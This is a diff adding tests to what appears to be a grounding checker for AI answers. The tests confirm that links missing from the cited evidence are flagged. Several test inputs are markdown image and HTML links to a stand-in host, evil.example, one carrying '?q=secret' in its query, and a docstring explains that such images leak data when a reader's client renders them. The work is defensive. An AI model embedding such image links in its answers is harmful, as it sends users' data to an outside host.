@@ -397,6 +397,43 @@ class TestSentencesAsWritten:
         assert reason in report.sentences[0].failed
 
 
+class TestLinks:
+    @pytest.mark.parametrize(
+        "link",
+        [
+            "see [the text](https://evil.example/x)",
+            "![x](https://evil.example/p.png?q=secret)",
+            '<img src="https://evil.example/a.png">',
+            "(full text at www.evil.example)",
+        ],
+    )
+    def test_a_link_the_cited_evidence_lacks_fails(self, link: str) -> None:
+        """Found by a new user: these were delivered as GROUNDED (an image in a rendered answer
+        is fetched by the reader's client, query and all)."""
+        report = check(f"{CHEATING} {link} [IPC_420_0].")
+
+        assert report.verdict is Verdict.NOT_GROUNDED
+        assert report.sentences[0].reason is Reason.LINK_MISMATCH
+        assert "which the cited evidence does not hold" in report.sentences[0].detail
+
+    def test_a_link_as_a_lead_in_is_not_exempt(self) -> None:
+        report = check(f"![x](https://evil.example/p.png?q=secret):\n{CHEATING} [IPC_420_0].")
+
+        assert report.sentences[0].reason is Reason.NO_CITATION
+
+    def test_a_link_the_cited_evidence_holds_passes_and_the_switch_turns_it_off(self) -> None:
+        evidence = [Chunk("X_0", "X", "The Code is published at https://indiacode.nic.in/ipc.")]
+        held = check("The Code is published at https://indiacode.nic.in/ipc [X_0].", evidence)
+        foreign = check(
+            "The Code is published at https://evil.example/ipc [X_0].",
+            evidence,
+            check_numbers=False,
+        )
+
+        assert held.verdict is Verdict.GROUNDED
+        assert Reason.LINK_MISMATCH not in foreign.sentences[0].failed
+
+
 class TestAttributionAndRefusalWording:
     @pytest.mark.parametrize("lead", ["According to section 379", "As per section 379"])
     def test_a_named_section_is_an_attribution_not_a_number_to_find(self, lead: str) -> None:
